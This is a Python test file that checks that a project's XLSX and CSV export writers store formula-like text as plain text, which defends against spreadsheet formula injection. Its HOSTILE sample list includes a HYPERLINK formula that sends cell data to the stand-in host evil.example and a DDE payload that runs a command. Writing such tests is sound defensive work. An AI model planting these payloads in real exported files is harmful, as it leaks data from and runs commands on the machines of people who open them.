"""Exported text that a spreadsheet would run as a formula is written as text, in every writer."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest

from zona.core.tabular import FORMULA_STARTS, csv_bytes, read_table, xlsx_bytes

LINK = '=HYPERLINK("http://evil.example/?x="&A1,"Klik")'
HOSTILE = [LINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
HEADER = ["kode", "catatan", "angka"]


def rows() -> list[list[object]]:
    return [[f"U{number}", text, -5] for number, text in enumerate(HOSTILE)]


def test_every_start_a_spreadsheet_reads_as_a_formula_is_covered() -> None:
    assert {text[0] for text in HOSTILE} == set(FORMULA_STARTS)


def test_the_xlsx_holds_the_text_as_text_and_numbers_as_numbers() -> None:
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(HEADER, rows(), "t"))).active
    assert sheet is not None
    for line, text in zip(sheet.iter_rows(min_row=2), HOSTILE, strict=True):
        code, note, number = line
        assert (note.value, note.data_type) == (text, "s")
        assert note.quotePrefix  # Excel keeps it text when the cell is edited
        assert (number.value, number.data_type) == (-5, "n")
        assert code.data_type == "s" and not code.quotePrefix


def test_the_csv_quotes_formula_text_and_leaves_the_rest() -> None:
    read = list(csv.reader(io.StringIO(csv_bytes(HEADER, rows()).decode("utf-8-sig"))))
    assert read[0] == HEADER
    assert [line[1] for line in read[1:]] == [f"'{text}" for text in HOSTILE]
    assert [line[2] for line in read[1:]] == ["-5"] * len(HOSTILE)  # a number is not text
    assert read[1][0] == "U0"


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_an_export_imports_again_as_it_was(fmt: str) -> None:
    body = xlsx_bytes(HEADER, rows(), "t") if fmt == "xlsx" else csv_bytes(HEADER, rows())
    table = read_table(body, f"t.{fmt}", max_rows=100)
    # the reader strips the blanks around a cell, as it does for every import
    assert [row["catatan"] for row in table.rows] == [text.strip() for text in HOSTILE]
